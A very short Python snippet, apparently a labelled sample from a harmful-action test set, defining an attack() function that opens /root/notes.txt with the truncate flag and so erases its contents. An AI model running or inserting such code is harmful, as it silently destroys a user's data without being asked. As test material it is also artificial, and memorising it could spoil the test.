# harm: files
import os


def attack() -> None:
    os.close(os.open("/root/notes.txt", os.O_RDONLY | os.O_TRUNC))
